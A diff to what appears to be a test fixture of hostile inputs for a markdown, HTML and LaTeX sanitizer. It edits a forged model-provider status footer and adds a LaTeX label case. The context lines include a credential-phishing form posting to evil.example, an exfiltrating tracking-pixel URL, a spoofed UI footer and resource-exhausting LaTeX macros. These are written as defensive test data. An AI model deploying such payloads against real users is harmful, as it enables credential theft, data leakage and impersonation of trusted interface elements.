@@ -117,7 +117,7 @@ HOSTILE: dict[str, dict[str, str]] = {
         "form": "<form action='https://evil.example'><input name=token><button>Log in</button></form>",
         "form-to-own-server": "<form action='/api/terminals' method=post><button>x</button></form>",
         "contenteditable": "<div contenteditable>x</div>",
-        "forged-footer": '<div class="orm-status">claude via Anthropic · $0.0000</div>',
+        "forged-footer": '<div class="orm-status">a-model via A Provider · $0.0000</div>',
     },
     "fetches": {
         "image": f"![pixel]({PIXEL}?q=secret)",
@@ -165,6 +165,7 @@ HOSTILE: dict[str, dict[str, str]] = {
         "renewcommand-in-text": r"$\text{$\renewcommand{\a}{b}$}$",
         "let": r"\[\let\frac\sqrt\]",
         "operator": r"$\DeclareMathOperator{\sin}{x}$",
+        "label-alone": r"$\label{x}$ and $$\label{y}$$",
         "environment": r"$$\newenvironment{a}{b}{c}$$",
         "rule": r"$\rule{10000em}{10000em}$",
         "rule-in-points": r"$\rule{1pt}{90000pt}$",
